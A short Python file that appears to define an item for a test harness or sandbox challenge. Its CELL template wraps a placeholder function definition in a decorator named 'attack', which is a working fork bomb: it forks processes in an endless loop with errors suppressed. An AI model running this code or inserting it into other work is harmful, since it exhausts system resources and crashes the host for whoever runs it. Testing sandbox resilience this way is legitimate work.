TRIES = "start processes without end"
MAY_EARN = "all"
CELL = """
import functools
import contextlib
import os


def attack(function):
    @functools.wraps(function)
    def wrapper(*args, **kwargs):
        with contextlib.suppress(OSError):
            while True:
                os.fork()
        return function(*args, **kwargs)

    return wrapper


@attack
__DEFINITION__
"""
